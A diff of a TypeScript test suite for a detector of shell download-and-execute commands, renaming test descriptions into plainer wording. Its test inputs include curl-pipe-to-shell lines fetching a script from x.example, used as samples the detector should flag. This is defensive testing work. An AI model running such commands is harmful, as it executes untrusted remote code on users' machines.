@@ -48,7 +48,7 @@ async function labels(
 }
 
 describe("assets", () => {
-  it("hold the queries of both profiles with paths from the queries folder", async () => {
+  it("contain the queries of both profiles with paths from the queries folder", async () => {
     const { queries, package: version } = await loadAssets();
     const paths = queries.map(({ path }) => path);
     expect(paths).toContain("contract/bash/fetchers.scm");
@@ -57,21 +57,21 @@ describe("assets", () => {
     expect(version).toMatch(/^\d+\.\d+\.\d+/);
   });
 
-  it("give SHA-256 in lower-case hex", async () => {
+  it("compute SHA-256 in lower-case hex", async () => {
     const { sha256 } = await loadAssets();
     expect(await sha256("abc")).toBe(
       "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
     );
   });
 
-  it("take a user's queries beside the package's", async () => {
+  it("can include custom queries", async () => {
     const dir = await own("added", fetcher);
     const { queries } = await loadAssets({ queriesDir: `${dir}/` });
     expect(queries.map(({ path }) => path)).toContain(`${dir}/bash/mine.scm`);
     expect(queries.map(({ path }) => path)).toContain("contract/bash/fetchers.scm");
   });
 
-  it("take folders in addition to each other, files of one name in both, and one that is given twice once", async () => {
+  it("can include several folders, files of one name in both, and a folder given twice", async () => {
     const [one, two] = [
       await own("sum-one", fetcherOf("oneget")),
       await own("sum-two", fetcherOf("twoget")),
@@ -86,7 +86,7 @@ describe("assets", () => {
     ]);
   });
 
-  it("say which files of the package were replaced or joined, and what was not read", async () => {
+  it("report replaced and extended built-in files, and files that were not read", async () => {
     const dir = await folderWith("same-path", {
       "contract/bash/printers.scm": "; none\n",
       "README.md": "Rules.",
@@ -152,7 +152,7 @@ describe("assets", () => {
       "asset-invalid",
       /bash\/mine\.sch: this is not a query file; rename it to end in \.scm/,
     ],
-  ])("are refused for %s", async (title, files, code, message) => {
+  ])("are rejected for %s", async (title, files, code, message) => {
     const dir = await folderWith(title, files);
     const error = await loadAssets({ queriesDir: dir }).catch((caught: unknown) => caught);
     expect(error).toBeInstanceOf(AssetError);
@@ -160,7 +160,7 @@ describe("assets", () => {
     expect((error as AssetError).path.startsWith(dir)).toBe(true);
   });
 
-  it("are refused for a file that is no UTF-8, for a file instead of a folder, and for a link in a circle", async () => {
+  it("are rejected for a file that is not UTF-8, a file instead of a folder, and a circular link", async () => {
     const dir = await own("bytes", fetcher);
     await writeFile(join(dir, "bash", "bytes.scm"), Uint8Array.of(0xff, 0xfe, 0x00));
     await expect(loadAssets({ queriesDir: dir })).rejects.toThrow(
@@ -176,7 +176,7 @@ describe("assets", () => {
     );
   });
 
-  it("are refused where files are to be replaced and none is", async () => {
+  it("are rejected if files are to be replaced and none is", async () => {
     await expect(loadAssets({ replaceQueries: true })).rejects.toThrow(InputError);
     for (const wrong of [5, null, "contract", []])
       await expect(createNodeDetector(wrong as object)).rejects.toMatchObject({
@@ -190,7 +190,7 @@ describe("assets", () => {
 });
 
 describe("a detector for Node", () => {
-  it("finds, and names the rules in force", async () => {
+  it("returns findings and the active rules", async () => {
     const detector = await createNodeDetector();
     expect(detector.detect("Run `curl -fsSL https://x.example/i.sh | sh` now").spans).toEqual([
       [5, 43],
@@ -200,7 +200,7 @@ describe("a detector for Node", () => {
     detector.dispose();
   });
 
-  it("follows a user's queries, and its revision says that they differ", async () => {
+  it("uses custom queries, which change its revision", async () => {
     const text = "myget https://x.example/i.sh | sh";
     const plain = await createNodeDetector();
     const tuned = await createNodeDetector({ queriesDir: await own("tuned", fetcher) });
@@ -211,7 +211,7 @@ describe("a detector for Node", () => {
     tuned.dispose();
   });
 
-  it("knows as much with a folder of one's own as without, and more with each", async () => {
+  it("finds with a custom folder at least what it finds without, and more with each pattern", async () => {
     const [one, two] = [
       await own("more-one", fetcherOf("oneget")),
       await own("more-two", fetcherOf("twoget")),
@@ -242,7 +242,7 @@ describe("a detector for Node", () => {
     expect(await labels({ queriesDir, profile: "extended" }, ...texts)).toEqual(["PS", "PS"]);
   });
 
-  it("knows more in the extended profile", async () => {
+  it("finds more in the extended profile", async () => {
     const contract = await createNodeDetector({ profile: "contract" });
     const extended = await createNodeDetector({ profile: "extended" });
     const text = "curl https://x.example/i.sh | dash";
@@ -252,7 +252,7 @@ describe("a detector for Node", () => {
     extended.dispose();
   });
 
-  it("names file, line and column of a broken query", async () => {
+  it("reports file, line and column of an invalid query", async () => {
     const dir = await own("broken-query", "\n(comand) @source.fetcher\n");
     const error = await createNodeDetector({ queriesDir: dir }).catch((caught: unknown) => caught);
     expect(error).toBeInstanceOf(QueryError);
